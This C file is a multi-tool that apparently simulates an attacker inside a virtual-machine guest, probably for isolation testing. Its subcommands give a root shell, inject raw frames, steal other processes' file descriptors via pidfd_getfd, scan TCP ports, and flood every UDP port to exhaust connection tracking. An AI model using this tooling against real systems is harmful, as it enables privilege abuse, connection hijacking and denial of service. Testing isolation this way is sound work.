/* An attacker's tools inside a guest, one static binary; setuid root when installed so.
   sh WORDS | send IF HEX... | steal PID FD <bytes | tcp ADDR PORT... | flood ADDR | xattr FILE NAME HEX */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

static size_t bytes(const char *hex, unsigned char *out, size_t most)
{
    size_t n = 0;
    unsigned value;
    for (; n < most && sscanf(hex + 2 * n, "%2x", &value) == 1; n++)
        out[n] = (unsigned char)value;
    return n;
}

static int send_frames(char **argv)
{
    unsigned char frame[2048];
    struct { unsigned short family, protocol; int index; unsigned short type; unsigned char kind, len, addr[8]; } to =
        { AF_PACKET, 0, (int)if_nametoindex(argv[0]), 0, 0, 6, { 0 } };
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) { perror("AF_PACKET"); return 1; }
    for (argv++; *argv; argv++) {
        size_t n = bytes(*argv, frame, sizeof frame);
        if (sendto(fd, frame, n, 0, (void *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
        usleep(20000);
    }
    return 0;
}

static int steal(int pid, int number)
{
    char buffer[65536];
    ssize_t n;
    int handle = (int)syscall(434, pid, 0);          /* pidfd_open */
    int fd = (int)syscall(438, handle, number, 0);   /* pidfd_getfd */
    if (fd < 0) { perror("pidfd_getfd"); return 1; }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_NONBLOCK);
    while ((n = read(0, buffer, sizeof buffer)) > 0)
        if (write(fd, buffer, (size_t)n) < 0) { perror("write"); return 1; }
    return 0;
}

static void try_port(const char *address, int port)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
    int error = 0, fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    socklen_t size = sizeof error;
    struct pollfd wait = { fd, POLLOUT, 0 };
    inet_pton(AF_INET, address, &to.sin_addr);
    if (connect(fd, (void *)&to, sizeof to) < 0 && errno != EINPROGRESS) error = errno;
    else if (poll(&wait, 1, 2000) == 0) error = ETIMEDOUT;
    else getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    printf("%s %d %s\n", address, port, error ? strerror(error) : "open");
    close(fd);
}

/* Send a datagram to each UDP port: a node that routes them tracks one connection for each. */
static int flood(const char *address)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, address, &to.sin_addr);
    for (int port = 1; port < 65536; port++) {
        to.sin_port = htons((unsigned short)port);
        if (sendto(fd, "", 0, 0, (void *)&to, sizeof to) < 0) { perror("flood"); return 1; }
    }
    return 0;
}

int main(int argc, char **argv)
{
    unsigned char value[256];
    if (argc < 3) return 2;
    if (geteuid() == 0 && (setgroups(0, NULL) || setgid(0) || setuid(0))) { perror("root"); return 1; }
    if (!strcmp(argv[1], "sh")) { argv[0] = "/bin/sh"; argv[1] = "sh"; execv("/bin/sh", argv + 1); perror("sh"); return 1; }
    if (!strcmp(argv[1], "send")) return send_frames(argv + 2);
    if (!strcmp(argv[1], "steal")) return steal(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "tcp")) { for (int i = 3; i < argc; i++) try_port(argv[2], atoi(argv[i])); return 0; }
    if (!strcmp(argv[1], "flood")) return flood(argv[2]);
    if (!strcmp(argv[1], "xattr")) {
        if (setxattr(argv[2], argv[3], value, bytes(argv[4], value, sizeof value), 0)) { perror("setxattr"); return 1; }
        return 0;
    }
    return 2;
}
